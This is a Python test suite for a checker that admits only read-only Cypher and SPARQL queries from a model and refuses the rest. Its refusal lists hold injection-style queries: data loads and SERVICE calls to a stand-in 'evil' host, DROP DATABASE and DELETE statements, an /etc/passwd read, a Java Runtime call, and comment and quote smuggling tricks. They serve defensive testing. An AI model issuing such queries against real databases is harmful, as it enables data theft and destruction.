"""What a model's query may be: nothing that writes, reaches out or calls gets through."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from isomatch.errors import QueryRefused
from isomatch.evaluate.readonly import checked

CYPHER = [
    "MATCH (m:Movie)-[:DIRECTED_BY]->(p {name: 'Mann'}) RETURN DISTINCT m.title AS answer",
    "MATCH (m {title: 'DELETE; CREATE (n)'}) RETURN m.title AS answer",
    "MATCH (m:`SET`) RETURN m.title AS answer // CREATE (n)",
    "UNWIND [1, 2] AS x CALL (x) { MATCH (n {k: x}) RETURN n } RETURN n.name AS answer",
    "MATCH (n) WHERE n.date > date('2001-01-01') AND point.distance(n.a, n.b) > 1 "
    "RETURN toLower(n.name) AS answer",
    "OPTIONAL MATCH (n) WITH n ORDER BY n.x RETURN n.created AS answer",
    "MATCH (start:SET {k: 1})-[:SHOW]->(n) WHERE n.show = 1 AND n . call > 2 "
    "RETURN n.set AS answer",
    "MATCH (n) RETURN duration.between(date('2001-01-01'), n.d) AS answer",
]
NO_CYPHER = [
    "",
    "I cannot answer that.",
    "CREATE (n)",
    "MATCH (n) SET n.x = 1 RETURN n",
    "MATCH (n) set/**/n.x = 1",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n) REMOVE n.x",
    "MERGE (n) RETURN n",
    "MATCH (n) INSERT (:X)",
    "LOAD CSV FROM 'http://evil/' AS x RETURN x",
    "CALL apoc.load.json('http://evil/') YIELD value RETURN value",
    "CALL db.labels()",
    "MATCH (n) CALL `apoc`.`load`.json('x') YIELD value RETURN value",
    "MATCH (n) RETURN apoc.text.join(n.names, ',') AS answer",
    "MATCH (n) RETURN `apoc`.`text`.join(n.names, ',') AS answer",
    "MATCH (n) FOREACH (x IN [1] | CREATE (:X))",
    "MATCH (n) RETURN n; MATCH (m) DELETE m",
    "USE other MATCH (n) RETURN n",
    "SHOW USERS",
    "DROP DATABASE neo4j",
    "EXPLAIN MATCH (n) RETURN n",
    "CYPHER 25 MATCH (n) RETURN n",
    "MATCH (n) CALL { CREATE (m) } IN TRANSACTIONS RETURN n",
    "MATCH (n {a: '\\u0027'}) RETURN n",  # becomes a quote before the server reads it
    "MATCH (n {a: 'x}) RETURN n",
    # A comment ends at a carriage return, too.
    "MATCH (n) //\r CALL { LOAD CSV FROM 'http://evil/' AS line RETURN line } RETURN line[0]",
    "MATCH (n)SET`n`.x = 1 RETURN n",
    "MATCH (n) CALL`f`('x') YIELD x RETURN x",
    "MATCH (n) RETURN apoc.date.format(n.x) AS answer",
    "MATCH (n) RETURN n[0].date.format(n.x) AS answer",
    "MATCH (n) RETURN apoc . date . format(n.x) AS answer",
    "MATCH (n) WITH n, 1. SET n.x = 1",
    "MATCH (n)-[*1..SET n.x = 1",
    "MATCH (n) WITH n, 1SET n.x = 1",
    "MATCH (n)\u00a0SET n.x = 1",
    "MATCH (n {a: '\u2028'}) RETURN n",
    "MATCH (n {a: '\x00'}) RETURN n",
    "MATCH (n) RETURN n.x AS answer LIMIT 999999999",
    "MATCH (n {a: '\\x'}) RETURN n",  # no escape of the language
    "MATCH (n) RETURN n" + " " * 3 + "x" * 10_000,
]
SPARQL = [
    'SELECT DISTINCT ?answer WHERE { ?f <http://e/by> ?answer . ?f <http://e/n> "INSERT DATA" }',
    "PREFIX e: <http://e/> SELECT ?answer { ?answer a e:Film # DELETE\n}",
    "PREFIX xsd: <http://www.w3.org/2001/XMLSchema#> "
    "SELECT ?answer { ?x ?load ?answer FILTER(xsd:integer(?answer) > 3 && ?answer < 9) }",
    'SELECT ?answer { ?x ^<urn:r:by>/<urn:r:n>+ ?answer FILTER(STR(?n) = "x"@en) }',
    "SELECT (COUNT(?x) AS ?answer) { { SELECT ?x { ?x ?p ?o } LIMIT 3 } }",
]
NO_SPARQL = [
    "",
    "ASK { ?s ?p ?o }",
    "CONSTRUCT { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "DESCRIBE <http://e/x>",
    "INSERT DATA { <http://e/a> <http://e/b> <http://e/c> }",
    "DELETE WHERE { ?s ?p ?o }",
    "SELECT ?answer { ?s ?p ?answer } ; DROP ALL",
    "LOAD <http://evil/>",
    "CLEAR ALL",
    "SELECT ?answer { SERVICE <http://evil/> { ?s ?p ?answer } }",
    "SELECT ?answer FROM <http://evil/data> { ?s ?p ?answer }",
    "SELECT ?answer FROM NAMED <http://evil/data> { ?s ?p ?answer }",
    'DEFINE get:soft "replace" SELECT ?answer { ?s ?p ?answer }',
    "SELECT ?answer { ?s ?p ?x BIND(bif:file_to_string(?x) AS ?answer) }",
    "SELECT ?answer { ?s ?p ?x BIND(<java:java.lang.Runtime>(?x) AS ?answer) }",
    "SELECT ?answer { ?s ?p ?x BIND(<http://e/f>(?x) AS ?answer) }",
    "PREFIX f: <java:java.lang.> SELECT ?answer { ?s ?p ?answer }",
    "SELECT ?answer { ?s <file:///etc/passwd> ?answer }",
    "SELECT ?answer { ?s ?p 'x }",
    'SELECT ?answer { ?s ?p "\\u0022 } INSERT" }',
    "SELECT ?answer { ?s ?p ?answer #\r SERVICE <http://evil/> { ?s ?p ?o } }",
    "SELECT ?answer { ?s ?p <urn:\u00a0#> . SERVICE <http://evil/> { ?s ?p ?answer } \n}",
    "SELECT ?answer { ?s ?p ?o FILTER(?o != '''\\'''') SERVICE <http://evil/> { ?o ?p 'A' } } #'",
    'SELECT ?answer { ?s ?p ?o FILTER(?o != """\\"""") SERVICE <http://evil/> { ?o ?p "A" } } #"',
    # Oxigraph needs no space there, and may take what begins like an IRI for a comparison.
    "PREFIX : <http://evil/> SELECT ?answer { SERVICE:x { ?s ?p ?answer } }",
    "PREFIX : <http://evil/> SELECT ?answer { serviceSilent:x { ?s ?p ?answer } }",
    "PREFIX : <http://evil/> SELECT ?answer { ?s ?p :.SERVICE <http://evil/> { ?s ?p ?o } }",
    "PREFIX : <http://evil/> SELECT ?answer FROM:x { ?s ?p ?answer }",
    "PREFIX urn: <urn:> SELECT ?answer { ?s ?p ?answer FILTER(?answer <urn:x#> ''' \n ) "
    "SERVICE <http://evil/> { ?a ?b ?c } } #'''",
    "SELECT ?answer { ?s ?p ?answer }\nLIMIT 1001",
]


@pytest.mark.parametrize("text", CYPHER)
def test_cypher_that_only_reads_gets_a_limit(text):
    assert checked(text, "cypher") == f"{text}\nLIMIT 1000"


@pytest.mark.parametrize("text", NO_CYPHER)
def test_cypher_that_may_do_more_is_refused(text):
    with pytest.raises(QueryRefused, match=r"^(the|there is no) query"):
        checked(text, "cypher")


@pytest.mark.parametrize("text", SPARQL)
def test_sparql_that_only_reads_gets_a_limit(text):
    assert checked(text, "sparql") == f"{text}\nLIMIT 1000"


@pytest.mark.parametrize("text", NO_SPARQL)
def test_sparql_that_may_do_more_is_refused(text):
    with pytest.raises(QueryRefused, match=r"^(the|there is no) query"):
        checked(text, "sparql")


def test_a_limit_is_kept():
    assert checked("MATCH (n) RETURN n.x AS answer LIMIT 5;", "cypher").endswith("LIMIT 5")
    text = "SELECT ?answer { ?s ?p ?answer } limit 5 offset 2"
    assert checked(text, "sparql") == text


def test_a_union_gets_a_limit_for_all_of_it():
    text = "MATCH (n) RETURN n.a AS answer LIMIT 5 UNION MATCH (n) RETURN n.b AS answer LIMIT 5"
    assert checked(text, "cypher") == f"CALL {{\n{text}\n}}\nRETURN answer LIMIT 1000"


# What may stand around a text, a name or a comment, with a newline of each kind.
MARKS = ["'", '"', "`", "/*", "*/", "//", "\n", "\r", "\\", "#", "<urn:a", ">", "\u00a0", "x", " "]
# By language: what begins a part that is no code, and what ends it.
APART = {
    "cypher": {"'": "'", '"': '"', "`": "`", "/*": "*/", "//": "\n"},
    "sparql": {"'''": "'''", '"""': '"""', "'": "'", '"': '"', "#": "\n", "<urn:": ">"},
}


@given(st.sampled_from(["CREATE (x)", "SET n.x = 1", "DELETE n", "CALL a.b()"]), st.data())
def test_cypher_cannot_be_hidden_in_quotes_and_comments(clause, data):
    before, after = around(data)
    text = f"MATCH (n) {before} {clause} {after} RETURN n"
    assert refused(text, "cypher") or outside(text, "cypher").count(clause) == 0


@given(st.sampled_from(["SERVICE <urn:e> {}", "SERVICE:x {}", "FROM <urn:e>"]), st.data())
def test_sparql_cannot_be_hidden_in_quotes_and_comments(clause, data):
    before, after = around(data)
    text = f"SELECT ?answer {{ ?s ?p ?answer {before} {clause} {after} }}"
    assert refused(text, "sparql") or outside(text, "sparql").count(clause.split()[0]) == 0


def around(data: st.DataObject) -> tuple[str, str]:
    marks = st.lists(st.sampled_from([*MARKS, "'''", '"""']), max_size=8)
    return "".join(data.draw(marks)), "".join(data.draw(marks))


def refused(text: str, language: str) -> bool:
    try:
        checked(text, language)
    except QueryRefused:
        return True
    return False


def outside(text: str, language: str) -> str:
    """The text outside of quotations and comments, letter by letter."""
    text = text.replace("\r", "\n")
    kept, closing, place = [], "", 0
    while place < len(text):
        if closing:
            if closing[0] in "'\"" and text[place] == "\\":
                place += 2
            elif text.startswith(closing, place):
                place, closing = place + len(closing), ""
            else:
                place += 1
            continue
        ends = APART[language]
        begin = next((b for b in ends if text.startswith(b, place)), None)
        if begin is None:
            kept.append(text[place])
            place += 1
        else:
            closing, place = ends[begin], place + len(begin)
    return "".join(kept)
